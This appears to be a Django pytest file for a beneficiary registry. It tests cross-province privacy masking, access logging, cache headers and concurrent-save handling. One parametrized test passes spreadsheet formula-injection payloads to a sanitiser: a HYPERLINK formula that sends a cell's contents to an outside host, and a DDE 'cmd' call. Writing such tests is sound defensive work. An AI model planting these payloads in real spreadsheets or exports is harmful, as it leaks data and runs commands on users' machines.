"""Guarantees found missing in review: nothing leaks across provinces, every look is logged,
formulas never reach a spreadsheet, and concurrent writers get a clear answer, not a 500."""

from datetime import date

import pytest
from django.urls import reverse

from beneficiaries.forms import BeneficiaryForm
from beneficiaries.importing import build_plan, read_upload
from beneficiaries.models import AccessLog, Beneficiary
from beneficiaries.tasks import differs_from_preview
from beneficiaries.views.registry import save_beneficiary
from reintegration.lib.spreadsheets import spreadsheet_safe
from tests.beneficiaries.spreadsheets import csv_bytes, person
from tests.factories import BeneficiaryFactory, province


def url(name, *args):
    return reverse(f"beneficiaries:{name}", args=args)


def test_a_possible_duplicate_in_another_province_is_shown_by_province_only(client_for, khemisset_staff):
    BeneficiaryFactory(cin="RB765432", first_name="Karim", last_name="Tazi", date_of_birth=date(1990, 5, 17),
                       province=province("04.421"))  # fmt: skip
    client = client_for(khemisset_staff)
    client.cookies["idmaj_language"] = "en"
    registration = {"no_cin_reason": "lost", "first_name": "Karim", "last_name": "Tazi", "sex": "M",
                    "date_of_birth": "1990-05-17", "dependants": "0"}  # fmt: skip
    page = client.post(url("create"), registration).text
    assert "Someone registered in Rabat" in page
    assert "RB****32" not in page
    assert "Karim Tazi</a>" not in page


def test_opening_the_edit_form_is_logged_like_a_detail_view(client_for, khemisset_staff):
    person_ = BeneficiaryFactory(cin="AB123467")
    client_for(khemisset_staff).get(url("edit", person_.pk))
    assert AccessLog.objects.filter(action="view", beneficiary=person_, user=khemisset_staff).count() == 1


def test_the_admin_shows_beneficiaries_read_only_and_logs_each_look(client_for, admin_user):
    person_ = BeneficiaryFactory(cin="AB123467")
    client = client_for(admin_user)
    page = client.get(f"/admin/beneficiaries/beneficiary/{person_.pk}/change/")
    assert page.status_code == 200
    assert 'name="cin"' not in page.text  # no editable field
    client.get(f"/admin/beneficiaries/beneficiary/{person_.pk}/history/")
    assert AccessLog.objects.filter(beneficiary=person_, action="reveal_cin").count() == 2  # both show the CIN
    # Refused as a whole (not merely an incomplete form that would have saved nothing anyway).
    refused = client.post(f"/admin/beneficiaries/beneficiary/{person_.pk}/change/", {"status": "funded", "cin": "ab 1"})
    assert refused.status_code == 403
    person_.refresh_from_db()
    assert (person_.status, person_.cin) == (Beneficiary.Status.REGISTERED, "AB123467")


@pytest.mark.parametrize("payload", ['-1+HYPERLINK("http://x/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "=1+1", "@SUM(A1)"])
def test_text_that_a_spreadsheet_would_run_is_quoted(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("number", ["+212661234567", "-1250.50", "06 61 23 45 67"])
def test_numbers_and_phones_are_left_alone(number):
    assert spreadsheet_safe(number) == number


def test_pages_for_signed_in_users_are_never_stored_by_the_browser(client_for, khemisset_staff):
    person_ = BeneficiaryFactory()
    response = client_for(khemisset_staff).get(url("detail", person_.pk))
    assert "no-store" in response["Cache-Control"]
    assert 'data-hx-history="false"' in response.text


def test_the_list_tells_caches_it_varies_with_htmx_and_restores_history_as_a_full_page(client_for, khemisset_staff):
    client = client_for(khemisset_staff)
    assert "HX-Request" in client.get(url("list"))["Vary"]
    restore = client.get(url("list"), HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
    assert "<html" in restore.text


def test_a_cin_registered_between_the_check_and_the_save_gets_the_form_message_not_a_500(khemisset_staff):
    data = {"cin": "GK456789", "first_name": "Fatima", "last_name": "Zemmouri", "sex": "F",
            "date_of_birth": "1992-03-04", "dependants": "0"}  # fmt: skip
    form = BeneficiaryForm(data, user=khemisset_staff)
    assert form.is_valid(), form.errors
    BeneficiaryFactory(cin="GK456789", province=province("04.421"))  # another office saves it meanwhile
    assert save_beneficiary(form, khemisset_staff) is None
    assert "cin" in form.errors
    assert Beneficiary.objects.count() == 1


def test_a_commit_that_would_now_update_someone_registered_by_hand_asks_for_a_new_look(khemisset_staff):
    khemisset = province("04.291")
    data = csv_bytes([person(1, commune="Tiflet")])
    preview = build_plan(read_upload(data, "a.csv"), khemisset).report()
    assert not differs_from_preview(build_plan(read_upload(data, "a.csv"), khemisset).report(), preview)
    BeneficiaryFactory(cin="KA100001", first_name="Karim", last_name="X", date_of_birth=date(1960, 1, 2),
                       province=khemisset)  # fmt: skip
    again = build_plan(read_upload(data, "a.csv"), khemisset).report()
    assert differs_from_preview(again, preview)


def test_a_status_change_keeps_a_concurrent_edit_of_the_name(khemisset_staff):
    beneficiary = BeneficiaryFactory(first_name="Karim", last_name="Tazi")
    stale = Beneficiary.objects.get(pk=beneficiary.pk)
    Beneficiary.objects.filter(pk=beneficiary.pk).update(last_name="Tazi-Alaoui")  # an edit saved meanwhile
    stale.move_to(Beneficiary.Status.ACCOMPANIED, by=khemisset_staff)
    saved = Beneficiary.objects.get(pk=beneficiary.pk)
    assert (saved.status, saved.last_name) == (Beneficiary.Status.ACCOMPANIED, "Tazi-Alaoui")
    assert saved.history.first().last_name == "Tazi-Alaoui"
